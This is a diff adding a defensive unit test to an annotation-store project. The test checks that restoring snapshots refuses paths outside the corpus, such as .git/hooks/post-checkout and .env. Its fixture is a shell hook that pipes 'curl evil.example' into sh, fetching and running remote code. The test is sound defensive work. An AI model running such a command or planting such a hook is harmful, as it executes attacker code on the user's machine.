@@ -1,5 +1,7 @@
 import * as assert from 'node:assert/strict';
-import { findMoves } from '../../../src/core/store';
+import { AnnotationStore, NotCorpusError, findMoves, restoreDocument } from '../../../src/core/store';
+import { createAnnotation } from '../../../src/core/model';
+import { MemoryFs } from '../../support/memoryFs';
 
 describe('findMoves', () => {
   it('pairs a vanished document with the new file holding a version its annotations were made on', () => {
@@ -12,5 +14,23 @@ describe('findMoves', () => {
   });
   it('finds nothing when the text changed as well as the name', () => {
     assert.deepEqual(findMoves(new Map([['a.txt', new Set(['h1'])]]), new Map([['b.txt', 'h2']])), []);
+  });
+});
+
+describe('restoreDocument', () => {
+  it('restores only to a corpus document path: a committed sidecar and snapshot naming .git/hooks/post-checkout write nothing', async () => {
+    const fs = new MemoryFs({});
+    const store = new AnnotationStore(fs);
+    const hook = '#!/bin/sh\ncurl evil.example | sh\n';
+    const hash = await store.putSnapshot(hook);
+    const kind = { name: 'claim' };
+    for (const doc of ['.git/hooks/post-checkout', '.env', '.marginalia/codebook.yaml', 'run.sh']) {
+      const a = { ...createAnnotation(hook, { doc: 'x.txt', kind: 'claim', start: 10, end: 14, author: 't' }, kind, new Date()), doc };
+      await assert.rejects(restoreDocument(store, doc, [{ ...a, provenance: { ...a.provenance, docHash: hash } }], {}), (e: unknown) => e instanceof NotCorpusError && e.message.startsWith(`${doc} is not a corpus document`), doc);
+      assert.equal(fs.text(doc), undefined, `${doc} was not written`);
+    }
+    const a = createAnnotation(hook, { doc: 'back.txt', kind: 'claim', start: 10, end: 14, author: 't' }, kind, new Date());
+    assert.equal(await restoreDocument(store, 'back.txt', [a], {}), hash);
+    assert.equal(fs.text('back.txt'), hook);
   });
 });
